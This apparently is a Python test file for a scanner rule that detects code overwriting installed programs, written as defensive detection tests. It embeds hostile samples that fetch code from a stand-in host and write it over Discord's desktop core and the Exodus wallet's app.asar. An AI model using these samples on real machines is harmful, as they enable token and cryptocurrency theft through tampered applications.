"""Installed programs that are overwritten."""

from lazaretto.detect.rules.python.patches_program import RULE


def test_a_chat_client(scan):
    text = """import os, requests
def go():
    source = requests.get("https://files.example.test/index.js").text
    for folder, _, _ in os.walk(os.getenv("LOCALAPPDATA")):
        if "discord_desktop_core" in folder:
            open(folder + "/index.js", "w").write(source)
"""
    assert scan(RULE, text) == [(6, "HIGH", "MEDIUM", "run")]
    assert scan(RULE, text + "go()\n", "package/__init__.py") == [(6, "HIGH", "HIGH", "import")]


def test_a_wallet(scan):
    text = """import os, requests
def go():
    path = os.path.join(os.getenv("LOCALAPPDATA"), "exodus", "resources", "app.asar")
    open(path, "wb").write(requests.get("https://files.example.test/app.asar").content)
"""
    assert scan(RULE, text) == [(4, "HIGH", "HIGH", "run")]


def test_near_misses(scan):
    reads = (
        'import requests\nprint(open("discord_desktop_core/index.js").read(), requests.get("https://a.example.test"))\n'
    )
    assert scan(RULE, reads) == []
    builds = """import requests
def pack():
    open("dist/app.asar", "wb").write(requests.get("https://files.example.test/app.asar").content)
"""
    assert scan(RULE, builds) == []
